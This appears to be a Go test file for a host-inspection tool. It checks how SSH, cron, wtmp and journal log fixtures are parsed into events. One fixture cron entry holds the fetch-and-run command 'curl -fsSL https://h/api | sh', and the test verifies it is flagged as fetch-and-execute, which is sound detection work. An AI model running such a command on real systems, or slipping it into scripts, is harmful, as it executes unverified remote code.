package observe

import (
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"demine/internal/fact"
	"demine/internal/format/utmp"
	"demine/internal/host/fixture"
)

func events(s *fact.Snapshot) []string {
	var out []string
	for _, e := range s.Log {
		out = append(out, fmt.Sprintf("%s %s %s %s %s:%d %s", e.Time.UTC().Format("01-02 15:04:05"), e.Kind, e.User, e.From, e.Origin.Path, e.Origin.Line, e.Text))
	}
	return out
}

func TestLogDebian(t *testing.T) {
	s, c := lookAt(t, "log-debian", fact.Snapshot{}, log)
	want := []string{
		"11-20 08:00:00 ssh-accepted shop 10.0.0.9 /var/log/auth.log.1:1 ",
		"11-22 18:50:01 ssh-accepted root 203.0.113.9 /var/log/auth.log:1 ",
		"11-22 18:51:01 ssh-failed root 198.51.100.7 /var/log/auth.log:2 ",
		"11-22 19:00:01 cron-run root  /var/log/syslog:1 curl -fsSL https://h/api | sh",
		"11-22 19:01:02 cron-refused *system*x  /var/log/syslog:3 INSECURE MODE (group/other writable) (/etc/cron.d/x)",
	}
	if d := cmp.Diff(want, events(s)); d != "" {
		t.Error(d)
	}
	if d := cmp.Diff([]string{"compressed /var/log/messages"}, gaps(c)); d != "" {
		t.Error(d)
	}
	if r := s.Log[3]; r.Shell == nil || !r.Shell.FetchExec {
		t.Errorf("%+v", r)
	}
}

func wtmp(at time.Time, user, host string) string {
	b := make([]byte, utmp.Size)
	binary.LittleEndian.PutUint16(b, utmp.UserProcess)
	binary.LittleEndian.PutUint32(b[4:], 77)
	copy(b[8:], "pts/0")
	copy(b[44:], user)
	copy(b[76:], host)
	binary.LittleEndian.PutUint32(b[340:], uint32(at.Unix()))
	return base64.StdEncoding.EncodeToString(b)
}

func TestLogins(t *testing.T) {
	at := time.Date(2026, 11, 22, 18, 0, 0, 0, time.UTC)
	h, err := fixture.Parse([]byte("-- /var/log/wtmp enc=base64 --\n" + wtmp(at, "root", "203.0.113.9") +
		"\n-- /var/log/secure-20261115 --\nx\n-- /var/log/secure-20261101 --\nNov  1 00:00:01 h sshd[1]: Accepted password for a from 1.2.3.4 port 5 ssh2\n"))
	if err != nil {
		t.Fatal(err)
	}
	s, c := lookAtHost(t, h, fact.Snapshot{}, log)
	if d := cmp.Diff([]string{"11-22 18:00:00 login root 203.0.113.9 /var/log/wtmp:0 pts/0"}, events(s)); d != "" || c.State != fact.Seen {
		t.Error(c, d)
	}
}

func TestLogJournalOnly(t *testing.T) {
	h, err := fixture.Parse([]byte("-- /var/log/journal/0123/system.journal --\nx\n"))
	if err != nil {
		t.Fatal(err)
	}
	_, c := lookAtHost(t, h, fact.Snapshot{}, log)
	if d := cmp.Diff([]string{"journal-not-read /var/log/journal"}, gaps(c)); d != "" || c.State != fact.Partial {
		t.Error(c.State, d)
	}
}

func TestNewestDropsFailuresFirst(t *testing.T) {
	var es []fact.LogEvent
	for i := range 10 {
		kind := "ssh-failed"
		if i%2 == 0 {
			kind = "ssh-accepted"
		}
		es = append(es, fact.LogEvent{Kind: kind, Time: time.Unix(int64(i), 0)})
	}
	var got []string
	for _, e := range newest(es, 6) {
		got = append(got, fmt.Sprint(e.Time.Unix(), strings.TrimPrefix(e.Kind, "ssh-")))
	}
	if d := cmp.Diff([]string{"0accepted", "2accepted", "4accepted", "6accepted", "8accepted", "9failed"}, got); d != "" {
		t.Error(d)
	}
}
